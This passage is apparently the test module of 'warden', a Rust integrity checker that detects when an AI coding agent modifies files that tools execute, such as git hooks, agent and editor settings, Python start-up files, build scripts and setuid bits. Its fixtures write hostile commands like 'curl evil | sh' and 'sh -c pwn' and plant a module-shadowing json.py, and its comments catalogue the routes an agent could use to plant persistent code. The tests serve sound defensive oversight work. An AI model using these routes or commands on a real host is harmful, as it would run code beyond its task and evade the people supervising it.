                "warden: integrity: a walk was incomplete (the workspace over {MAX_ENTRIES} entries or deeper than {MAX_DEPTH}, an agent state directory's projects over 100000 entries, or unreadable directories): files past it were not compared; look there yourself before running the host's tools or agent"
            );
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classifies() {
        let c = |p: &str, g| classify(Path::new(p), g).map(|x| x.0);
        assert_eq!(c(".git/hooks/pre-commit", true), Some(Category::Git));
        assert_eq!(c(".git/hooks/pre-commit.sample", true), None);
        assert_eq!(c(".git/index", true), None);
        assert_eq!(c("sub/.git", false), Some(Category::Git));
        assert_eq!(c(".claude/settings.json", false), Some(Category::Agent));
        assert_eq!(c("a/.vscode/tasks.json", false), Some(Category::Ide));
        assert_eq!(c(".cargo/config.toml", false), Some(Category::Build));
        assert_eq!(c("web/package.json", false), Some(Category::Build));
        assert_eq!(c("src/main.rs", false), None);
        assert_eq!(
            c(".git/rebase-merge/git-rebase-todo", true),
            Some(Category::Git)
        );
        assert_eq!(c(".git/sequencer/todo", true), Some(Category::Git));
        // Any file named `config` is a candidate, compared by its active git settings
        // (attack review 119, F1); files named as git hooks in any `hooks/`, but not a web
        // project's hooks.
        assert_eq!(c("config", false), Some(Category::Git));
        assert_eq!(c("p/hooks/pre-receive", false), Some(Category::Git));
        assert_eq!(c("src/hooks/useThing.ts", false), None);
        assert_eq!(c("src/hooks/pre-commit.md", false), None);
        // Attack review 76: loaded by Gemini CLI (a trusted folder's environment) and by
        // Codex and Gemini (skills).
        assert_eq!(c(".env", false), Some(Category::Env));
        assert_eq!(c("app/.env", false), Some(Category::Env));
        assert_eq!(c(".env.example", false), None);
        assert_eq!(c(".agents/skills/x/SKILL.md", false), Some(Category::Agent));
    }

    /// Review 95: Python start-up files, other agents' and editors' project settings.
    #[test]
    fn classifies_python_start_up_files_and_other_agents_and_editors() {
        let c = |p: &str| classify(Path::new(p), false).map(|x| x.0);
        for p in [
            ".venv/lib/python3.11/site-packages/zz.pth",
            ".venv/lib/python3.11/site-packages/sitecustomize.py",
            "usercustomize.py",
            ".venv/pyvenv.cfg",
            ".venv/bin/python._pth",
            ".venv/lib/python3.11/site-packages/sitecustomize/__init__.py",
            "site-packages/__pycache__/sitecustomize.cpython-311.pyc",
            "usercustomize.cpython-311-x86_64-linux-gnu.so",
        ] {
            assert_eq!(c(p), Some(Category::Env), "{p}");
        }
        for p in [
            ".qwen/settings.json",
            ".kiro/hooks/x.kiro.hook",
            "opencode.json",
            "sub/.aider.conf.yml",
            ".windsurf/rules/r.md",
        ] {
            assert_eq!(c(p), Some(Category::Agent), "{p}");
        }
        for p in [
            ".zed/tasks.json",
            ".helix/languages.toml",
            ".nvim.lua",
            ".exrc",
        ] {
            assert_eq!(c(p), Some(Category::Ide), "{p}");
        }
        for p in ["mod.py", "pth", "docs/pyvenv.md", "zed/tasks.json"] {
            assert_eq!(c(p), None, "{p}");
        }
    }

    /// Attack review 97 (F3): start-up files of debuggers, REPLs, linters and build tools.
    #[test]
    fn classifies_tool_start_up_files() {
        let c = |p: &str| classify(Path::new(p), false).map(|x| x.1);
        for p in [
            ".pdbrc",
            "sub/.pylintrc",
            "pylintrc",
            ".Rprofile",
            ".irbrc",
            ".ghci",
            ".gdbinit",
            ".lldbinit",
            ".jvmopts",
            ".sbtopts",
            ".bazelrc",
            "bunfig.toml",
            ".hg/hgrc",
            ".ocamlinit",
            ".perldb",
            ".psqlrc",
            ".sqliterc",
            ".screenrc",
            ".terraformrc",
            ".bunfig.toml",
            "ansible.cfg",
            ".mongoshrc.js",
            ".gemrc",
        ] {
            assert!(c(p).is_some(), "{p}");
        }
        assert_eq!(c("pyproject.toml"), Some(INIT_HOOK));
        assert_eq!(c("hgrc"), None);
    }

    /// Attack review 101 (E2): editor configuration under the names that are not
    /// `.vscode/` or `.devcontainer/`.
    #[test]
    fn classifies_editor_configuration_under_other_names() {
        let c = |p: &str| classify(Path::new(p), false).map(|x| x.0);
        for p in [
            ".devcontainer.json",
            "proj.code-workspace",
            "sub/x.code-workspace",
            ".dir-locals.el",
            ".dir-locals-2.el",
            ".lvimrc",
        ] {
            assert_eq!(c(p), Some(Category::Ide), "{p}");
        }
        assert_eq!(c("devcontainer.json"), None);
        assert_eq!(c("code-workspace.md"), None);
    }

    /// Attack review 99 (F3): lint-staged's commands (run by a git hook) in package.json or
    /// its own files are reported; a dependency bump is not.
    #[test]
    fn lint_staged_commands_are_compared() {
        let ws = std::env::temp_dir().join(format!("warden-ls-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&ws);
        std::fs::create_dir_all(ws.join("app")).unwrap();
        let pkg = |extra: &str| {
            format!("{{\"scripts\": {{\"t\": \"x\"}}, \"dependencies\": {{\"a\": \"{extra}\"}}, \"lint-staged\": {{\"*.js\": \"eslint\"}}}}")
        };
        std::fs::write(ws.join("package.json"), pkg("1")).unwrap();
        std::fs::write(ws.join("app/package.json"), pkg("1")).unwrap();
        let before = snapshot(&ws).unwrap();
        std::fs::write(ws.join("app/package.json"), pkg("2")).unwrap();
        std::fs::write(
            ws.join("package.json"),
            pkg("1").replace("eslint", "sh -c pwn"),
        )
        .unwrap();
        std::fs::write(ws.join(".lintstagedrc.json"), "{}").unwrap();
        let r = compare(&before, &ws);
        let got: Vec<_> = r.entries.iter().map(|e| e.path.clone()).collect();
        assert_eq!(
            got,
            vec![
                PathBuf::from(".lintstagedrc.json"),
                PathBuf::from("package.json")
            ]
        );
        std::fs::remove_dir_all(&ws).unwrap();
    }

    /// Review R5: files other tools run or load from the workspace.
    #[test]
    fn classifies_lefthook_maven_gradle_bundler_and_lfs() {
        let c = |p: &str| classify(Path::new(p), false).map(|x| x.0);
        for p in [
            "lefthook.yml",
            ".lefthook.yml",
            "lefthook-local.yml",
            ".lefthook-local.yaml",
            "sub/lefthook.toml",
            ".mvn/extensions.xml",
            ".mvn/jvm.config",
            ".mvn/maven.config",
            "gradle.properties",
            "app/gradle.properties",
            "gradle/wrapper/gradle-wrapper.properties",
            ".bundle/config",
        ] {
            assert_eq!(c(p), Some(Category::Build), "{p}");
        }
        assert_eq!(c(".lfsconfig"), Some(Category::Git));
        for p in [
            "lefthook.md",
            "lefthooks.yml",
            "docs/extensions.xml",
            "jvm.config",
            "bundle/configs",
            "gradle.txt",
        ] {
            assert_eq!(c(p), None, "{p}");
        }
    }

    #[test]
    fn reports_changes_to_git_config_targets_in_other_roots() {
        let d = std::env::temp_dir().join(format!("warden-integrity-g-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        let (ws, state) = (d.join("ws"), d.join("state"));
        std::fs::create_dir_all(ws.join("hooks")).unwrap();
        std::fs::create_dir_all(&state).unwrap();
        std::fs::write(ws.join("hooks/pre-commit"), "#!/bin/sh\n").unwrap();
        std::fs::write(state.join("git.inc"), "[user]\n").unwrap();
        let targets = vec![
            (ws.clone(), PathBuf::from("hooks")),
            (state.clone(), PathBuf::from("git.inc")),
            (state.clone(), PathBuf::from("absent/hooks")),
        ];
        let mut before = snapshot(&ws).unwrap();
        add_git_targets(&mut before, &targets);
        std::fs::write(state.join("git.inc"), "[core]\n\tfsmonitor = x\n").unwrap();
        std::fs::write(ws.join("hooks/post-commit"), "#!/bin/sh\n").unwrap();
        std::fs::create_dir_all(state.join("absent/hooks")).unwrap();
        std::fs::write(state.join("absent/hooks/post-commit"), "x").unwrap();
        let r = compare(&before, &ws);
        let got: Vec<_> = r
            .entries
            .iter()
            .map(|e| (e.path.clone(), e.change))
            .collect();
        assert!(
            got.contains(&(state.join("git.inc"), Change::Modified)),
            "{got:?}"
        );
        assert!(
            got.contains(&(state.join("absent/hooks/post-commit"), Change::Created)),
            "{got:?}"
        );
        // In the workspace: listed once, workspace-relative.
        assert!(
            got.contains(&(PathBuf::from("hooks/post-commit"), Change::Created)),
            "{got:?}"
        );
        assert!(
            !got.iter().any(|(p, _)| *p == ws.join("hooks/post-commit")),
            "{got:?}"
        );

        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn state_dirs_report_executables_and_watched_files() {
        use std::os::unix::fs::PermissionsExt;
        let d = std::env::temp_dir().join(format!("warden-integrity-st-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        let ws = d.join("ws");
        let st = d.join("state");
        std::fs::create_dir_all(&ws).unwrap();
        std::fs::create_dir_all(st.join("projects/p")).unwrap();
        std::fs::write(st.join("sl.sh"), "echo\n").unwrap();
        let mut before = snapshot(&ws).unwrap();
        snapshot_state(&mut before, std::slice::from_ref(&st));
        watch_files(&mut before, &[st.join("sl.sh")]);
        let exe = |p: &Path| {
            std::fs::write(p, "#!/bin/sh\n").unwrap();
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
        };
        std::fs::create_dir_all(st.join("bin")).unwrap();
        exe(&st.join("bin/tool"));
        // The agent's data: not in the baseline, walked at the end for what changed there
        // (attack review 127); a plain file there is not listed.
        exe(&st.join("projects/p/x"));
        std::fs::write(st.join("projects/p/t.jsonl"), "{}\n").unwrap();
        std::fs::write(st.join("sl.sh"), "echo; touch /tmp/x\n").unwrap();
        let r = compare(&before, &ws);
        let paths: Vec<_> = r.entries.iter().map(|e| e.path.clone()).collect();
        assert!(paths.contains(&st.join("bin/tool")), "{r:?}");
        assert!(paths.contains(&st.join("sl.sh")), "{r:?}");
        assert!(paths.contains(&st.join("projects/p/x")), "{r:?}");
        assert!(!paths.contains(&st.join("projects/p/t.jsonl")), "{r:?}");
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn modules_beside_a_watched_python_script_are_reported() {
        let d = std::env::temp_dir().join(format!("warden-integrity-py-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        let ws = d.join("ws");
        let st = d.join("state");
        std::fs::create_dir_all(&ws).unwrap();
        std::fs::create_dir_all(&st).unwrap();
        std::fs::write(st.join("sl.py"), "import json\n").unwrap();
        std::fs::write(st.join("old.py"), "x = 1\n").unwrap();
        let mut before = snapshot(&ws).unwrap();
        watch_files(&mut before, &[st.join("sl.py")]);
        std::fs::write(st.join("json.py"), "print('pwned')\n").unwrap();
        std::fs::create_dir_all(st.join("re")).unwrap();
        std::fs::write(st.join("re/__init__.py"), "import os\n").unwrap();
        std::fs::create_dir_all(st.join("csv")).unwrap();
        std::fs::write(st.join("csv/__init__.pyc"), "bytecode").unwrap();
        std::fs::write(st.join("notes.txt"), "data\n").unwrap();
        let r = compare(&before, &ws);
        let paths: Vec<_> = r.entries.iter().map(|e| e.path.clone()).collect();
        assert!(paths.contains(&st.join("json.py")), "{r:?}");
        assert!(paths.contains(&st.join("re/__init__.py")), "{r:?}");
        assert!(paths.contains(&st.join("csv/__init__.pyc")), "{r:?}");
        assert!(
            !paths.contains(&st.join("old.py")) && !paths.contains(&st.join("notes.txt")),
            "{r:?}"
        );
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn reports_created_and_changed_not_untouched() {
        let d = std::env::temp_dir().join(format!("warden-integrity-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(d.join("web")).unwrap();
        std::fs::write(d.join("Makefile"), "all:\n").unwrap();
        std::fs::write(
            d.join("web/package.json"),
            r#"{"name":"a","scripts":{"t":"x"}}"#,
        )
        .unwrap();
        std::fs::write(d.join("README"), "x").unwrap();
        let before = snapshot(&d).unwrap();
        // Only the version changes: not a scripts change.
        std::fs::write(
            d.join("web/package.json"),
            r#"{"name":"b","scripts":{"t":"x"}}"#,
        )
        .unwrap();
        std::fs::write(d.join(".envrc"), "x").unwrap();
        std::fs::write(d.join("README"), "y").unwrap();
        let r = compare(&before, &d);
        let paths: Vec<_> = r
            .entries
            .iter()
            .map(|e| e.path.display().to_string())
            .collect();
        assert_eq!(paths, vec![".envrc"], "{r:?}");
        std::fs::write(
            d.join("web/package.json"),
            r#"{"scripts":{"t":"curl x|sh"}}"#,
        )
        .unwrap();
        let r = compare(&before, &d);
        assert!(r
            .entries
            .iter()
            .any(|e| e.path == Path::new("web/package.json") && e.change == Change::Modified));
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn a_names_only_baseline_still_reports_setid_files_changed_after_it() {
        use std::os::unix::fs::PermissionsExt;
        let d = std::env::temp_dir().join(format!("warden-integrity-setid-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(d.join("bin")).unwrap();
        let setid = |p: &Path, mode: u32| {
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap()
        };
        for f in ["bin/old", "bin/kept", "bin/plain"] {
            std::fs::write(d.join(f), "#!/bin/sh\n").unwrap();
        }
        setid(&d.join("bin/old"), 0o4755);
        setid(&d.join("bin/kept"), 0o2755);
        std::fs::write(d.join("Makefile"), "all:\n").unwrap();
        std::fs::create_dir_all(d.join("tools")).unwrap();
        std::fs::write(d.join("tools/pre-commit"), "#!/bin/sh\n").unwrap();
        setid(&d.join("tools/pre-commit"), 0o4755);
        // Past the coarse clock's tick: the files above are older than the baseline.
        std::thread::sleep(std::time::Duration::from_millis(50));
        let now = coarse_now();
        let inputs = Inputs {
            workspace: d.clone(),
            state_dirs: Vec::new(),
            git_targets: Vec::new(),
            watched: Vec::new(),
            placeholders: Vec::new(),
        };
        let before = inputs.snapshot_since((now.0 + 1, now.1)).unwrap();
        // Names only: the Makefile is stamped, the binaries are not.
        assert!(
            before.files.contains_key(Path::new("Makefile")),
            "{before:?}"
        );
        assert!(
            !before.files.contains_key(Path::new("bin/old")),
            "{before:?}"
        );
        assert!(
            !before.files.contains_key(Path::new("bin/plain")),
            "{before:?}"
        );
        // A new setuid file, a setgid bit on an old plain one, a changed mode on an old one.
        std::fs::write(d.join("bin/new"), "#!/bin/sh\n").unwrap();
        setid(&d.join("bin/new"), 0o4755);
        setid(&d.join("bin/plain"), 0o2755);
        setid(&d.join("bin/old"), 0o6755);
        // A directory rename leaves the ctime of what is inside: an old set-id file moved to
        // a hook's path is listed by its name (attack review 66).
        std::fs::rename(d.join("tools"), d.join(".githooks")).unwrap();
        // An empty set-id file is not an empty placeholder.
        std::fs::create_dir_all(d.join("sub")).unwrap();
        std::fs::write(d.join("sub/Makefile"), "").unwrap();
        setid(&d.join("sub/Makefile"), 0o4755);
        let r = compare(&before, &d);
        for f in [".githooks/pre-commit", "sub/Makefile"] {
            let e = r.entries.iter().find(|e| e.path == Path::new(f));
            assert!(
                e.is_some_and(|e| e.change == Change::Created && e.what.contains("setuid")),
                "{f}: {r:?}"
            );
        }
        let got: Vec<_> = r
            .entries
            .iter()
            .map(|e| (e.path.clone(), e.change))
            .collect();
        for f in ["bin/new", "bin/plain", "bin/old"] {
            assert!(
                got.contains(&(PathBuf::from(f), Change::Modified)),
                "{f}: {r:?}"
            );
        }
        // Untouched since before the baseline: not listed.
        assert!(
            !got.iter().any(|(p, _)| p == Path::new("bin/kept")),
            "{r:?}"
        );
        assert!(
            !got.iter().any(|(p, _)| p == Path::new("Makefile")),
            "{r:?}"
        );
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn the_two_thread_walk_finds_what_one_thread_finds() {
        let d = std::env::temp_dir().join(format!("warden-integrity-two-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        // A wide and deep tree, a named file in every directory, git dirs and .claude here
        // and there (their categories depend on the path above them).
        for i in 0..60 {
            for j in 0..6 {
                let sub = d.join(format!("a{i}/b{j}/c"));
                std::fs::create_dir_all(&sub).unwrap();
                std::fs::write(sub.join("Makefile"), "all:\n").unwrap();
                std::fs::write(sub.join("plain.rs"), "").unwrap();
            }
            if i % 7 == 0 {
                std::fs::create_dir_all(d.join(format!("a{i}/.claude/x"))).unwrap();
                std::fs::write(d.join(format!("a{i}/.claude/x/y.json")), "{}").unwrap();
                std::fs::create_dir_all(d.join(format!("a{i}/r/.git/hooks"))).unwrap();
                std::fs::write(d.join(format!("a{i}/r/.git/hooks/pre-commit")), "x").unwrap();
                std::fs::write(d.join(format!("a{i}/r/.git/config")), "x").unwrap();
            }
        }
        let root = fsat::open_root(&d).unwrap();
        let dev = fsat::fstat(root.as_fd()).unwrap().st_dev;
        let (mut one, mut two) = (Snapshot::default(), Snapshot::default());
        walk_on(&root, dev, true, false, None, &mut one);
        walk_on(&root, dev, true, true, None, &mut two);
        assert_eq!(one.files.len(), 60 * 6 + 9 * 3, "{:?}", one.files.keys());
        let key = |s: &Snapshot| {
            let mut v: Vec<_> = s
                .files
                .iter()
                .map(|(p, st)| (p.clone(), st.category, st.what))
                .collect();
            v.sort_by(|a, b| a.0.cmp(&b.0));
            v
        };
        assert_eq!(key(&one), key(&two));
        assert_eq!((one.scanned, one.incomplete), (two.scanned, two.incomplete));
        let _ = std::fs::remove_dir_all(&d);
    }

    fn inputs(d: &Path) -> Inputs {
        Inputs {
            workspace: d.to_path_buf(),
            state_dirs: Vec::new(),
            git_targets: Vec::new(),
            watched: Vec::new(),
            placeholders: Vec::new(),
        }
    }

    #[test]
    fn entries_named_head_and_objects_hide_nothing() {
        let d =
            std::env::temp_dir().join(format!("warden-integrity-fakegit-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(d.join("app")).unwrap();
        std::fs::write(d.join("Makefile"), "all:\n").unwrap();
        // What the agent can make anywhere: the walk takes the directory for a git dir.
        std::fs::write(d.join("HEAD"), "").unwrap();
        std::fs::write(d.join("objects"), "").unwrap();
        let before = inputs(&d).snapshot().unwrap();
        std::fs::write(d.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
        std::fs::write(d.join("app/Makefile"), "all:\n").unwrap();
        std::fs::write(d.join("CLAUDE.md"), "x").unwrap();
        let r = compare(&before, &d);
        let got: Vec<_> = r
            .entries
            .iter()
            .map(|e| (e.path.clone(), e.change))
            .collect();
        for (f, c) in [
            ("Makefile", Change::Modified),
            ("app/Makefile", Change::Created),
            ("CLAUDE.md", Change::Created),
        ] {
            assert!(got.contains(&(PathBuf::from(f), c)), "{f}: {r:?}");
        }
        let _ = std::fs::remove_dir_all(&d);
    }

    #[test]
    fn a_package_json_deeper_than_path_max_is_still_compared() {
        use std::os::fd::AsRawFd;
        let d = std::env::temp_dir().join(format!("warden-integrity-deep-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&d);
        std::fs::create_dir_all(&d).unwrap();
        // 18 levels of 250-byte names: 4,500 bytes, past PATH_MAX, made from fds.
        let mut fd = fsat::open_dir(
            fsat::open_root(&d).unwrap().as_fd(),
            Path::new(""),
            true,
            None,
        )
        .unwrap();
        let name = std::ffi::CString::new("n".repeat(250)).unwrap();
        for _ in 0..18 {
            // SAFETY: mkdirat relative to an open directory fd.
            let r = unsafe { libc::mkdirat(fd.as_raw_fd(), name.as_ptr(), 0o755) };
            assert_eq!(r, 0);
            fd = fsat::open_dir(fd.as_fd(), Path::new(name.to_str().unwrap()), true, None).unwrap();
        }
        let write = |fd: &std::os::fd::OwnedFd, text: &str| {
            let f = c"package.json";
            // SAFETY: openat relative to an open directory fd, then write and close.
            unsafe {
                let o = libc::openat(
                    fd.as_raw_fd(),
                    f.as_ptr(),
                    libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC | libc::O_CLOEXEC,
                    0o644,
                );
                assert!(o >= 0);
                assert_eq!(
                    libc::write(o, text.as_ptr().cast(), text.len()),
                    text.len() as isize
                );
                libc::close(o);
            }
        };
        write(&fd, r#"{"scripts":{"test":"true"}}"#);
        let before = inputs(&d).snapshot().unwrap();
        write(&fd, r#"{"scripts":{"test":"curl evil | sh"}}"#);
        let r = compare(&before, &d);
        assert!(!r.incomplete, "{r:?}");
        assert!(
            r.entries
                .iter()
                .any(|e| e.path.ends_with("package.json") && e.change == Change::Modified),
            "{r:?}"
        );
        // (remove_dir_all cannot go past PATH_MAX either.)
        let _ = std::process::Command::new("rm").arg("-rf").arg(&d).status();
    }
}
